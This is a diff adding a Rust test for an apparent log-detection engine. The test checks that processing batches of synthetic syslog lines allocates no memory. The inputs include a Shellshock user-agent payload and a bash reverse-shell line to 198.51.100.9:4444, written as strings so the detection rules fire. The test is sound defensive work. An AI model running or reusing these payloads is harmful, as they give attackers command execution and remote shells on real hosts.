@@ -189,3 +189,147 @@ fn sigma_matching_allocates_nothing() {
     );
     assert_eq!(ALLOCATIONS.with(Cell::get), 0, "allocations while matching");
 }
+
+#[test]
+fn the_engine_allocates_nothing_per_batch_new_keys_and_alerts_included() {
+    use detector::{
+        engine::{Alerts, Blueprint, Clock, EngineOptions, Input, LearningOptions, RuleRef, Rules},
+        rules::{
+            correlation::CorrelationRule,
+            load::load_dir,
+            sigma::{LogsourceMap, SigmaRule},
+            silence, threshold,
+        },
+    };
+    let logsources = LogsourceMap::default();
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux");
+    let mut sigma = load_dir(std::path::Path::new(dir), &logsources).rules;
+    sigma.push(
+        SigmaRule::from_yaml(
+            "f.yml",
+            "title: Failed password\nname: failed\nlogsource: {product: linux}\n\
+             detection: {keywords: ['Failed password'], condition: keywords}\n",
+            &logsources,
+        )
+        .unwrap(),
+    );
+    let correlation = CorrelationRule::from_value(
+        "c.yml",
+        &serde_yaml::from_str(
+            "title: Many failures per host\ncorrelation:\n  type: event_count\n  rules: [failed]\n  \
+             group-by: [host]\n  timespan: 10m\n  condition: {gte: 4}\n",
+        )
+        .unwrap(),
+        &sigma,
+    )
+    .unwrap();
+    let native = "[[threshold]]\nid = \"b\"\ntitle = \"b\"\ncontains = [\"Failed password\"]\n\
+                  group_by = { regex = 'from ([0-9.]+) port' }\ncount = 4\nwindow = \"60s\"\n\n\
+                  [[silence]]\nid = \"q\"\ntitle = \"q\"\ngroup_by = \"host\"\nfactor = 1\n\
+                  min_events = 1\nmin_quiet = \"1s\"\n";
+    let rules = Rules {
+        correlations: vec![correlation],
+        thresholds: threshold::from_toml("n.toml", native, &logsources).unwrap(),
+        silences: silence::from_toml("n.toml", native).unwrap(),
+        sigma,
+    };
+    let mut engine = Blueprint::new(
+        &rules,
+        EngineOptions {
+            learning: Some(LearningOptions {
+                warmup_messages: 0,
+                ..LearningOptions::default()
+            }),
+            clock: Clock::Arrival,
+            budget_bytes: 8 << 20,
+        },
+    )
+    .engine();
+    // Batch k: sixteen hosts never seen before, each failing four times from an address never
+    // seen before (a threshold and a correlation alert per host), a kind of message never seen,
+    // and the shellshock and reverse-shell lines.
+    let batch = |k: usize| -> Vec<String> {
+        let mut lines = Vec::new();
+        for h in 0..16 {
+            for port in 0..4 {
+                lines.push(format!(
+                    "<38>Nov 22 10:00:00 host{k}x{h} sshd[1]: Failed password for root from \
+                     10.{k}.{h}.1 port {port} ssh2"
+                ));
+            }
+        }
+        let word = |i: usize| -> String {
+            (0..6)
+                .map(|j| char::from(b'a' + ((k * 7 + i * 3 + j * 5) % 26) as u8))
+                .collect()
+        };
+        lines.push(format!(
+            "<14>1 - web{k} app - - - {} {} {}",
+            word(1),
+            word(2),
+            word(3)
+        ));
+        lines.push("<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".into());
+        lines.push(
+            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1".into(),
+        );
+        lines
+    };
+    let lines: Vec<Vec<String>> = (0..6).map(batch).collect();
+    let batches: Vec<Vec<Input<'_>>> = lines
+        .iter()
+        .enumerate()
+        .map(|(k, ls)| {
+            ls.iter()
+                .enumerate()
+                .map(|(i, l)| Input {
+                    event: parse(l.as_bytes(), &ParseOptions::default()),
+                    source: Some(((k as u128) << 32) | i as u128),
+                    arrival_ns: k as u64 * 2_000_000_000,
+                })
+                .collect()
+        })
+        .collect();
+    let mut alerts = Alerts::new(4096);
+    // Which kinds of rule raised alerts (a fixed array: counting must not allocate itself).
+    let kind = |r: RuleRef| match r {
+        RuleRef::Sigma(_) => 0,
+        RuleRef::Threshold(_) => 1,
+        RuleRef::Correlation(_) => 2,
+        RuleRef::Silence(_) => 3,
+        RuleRef::NewTemplate(_) => 4,
+        RuleRef::RateSpike(_) => 5,
+    };
+    let mut kinds = [false; 6];
+    let run = |engine: &mut detector::engine::Engine, k: usize, alerts: &mut Alerts| {
+        engine.run(&batches[k], alerts);
+        engine.tick(k as u64 * 2_000_000_000 + 1_000_000_000, alerts);
+    };
+    // The first batch lets the regexes' lazy DFAs build the states this text needs.
+    run(&mut engine, 0, &mut alerts);
+    alerts.clear();
+    COUNTING.with(|c| c.set(true));
+    for k in 1..6 {
+        run(&mut engine, k, &mut alerts);
+        for a in alerts.as_slice() {
+            kinds[kind(a.rule)] = true;
+        }
+        alerts.clear();
+    }
+    COUNTING.with(|c| c.set(false));
+    assert_eq!(
+        ALLOCATIONS.with(Cell::get),
+        0,
+        "allocations while detecting"
+    );
+    for rule in [
+        RuleRef::Sigma(0),
+        RuleRef::Threshold(0),
+        RuleRef::Correlation(0),
+        RuleRef::NewTemplate(0),
+        RuleRef::Silence(0),
+    ] {
+        assert!(kinds[kind(rule)], "{rule:?} alerts were raised");
+    }
+    assert_eq!(alerts.overflowed(), 0);
+}
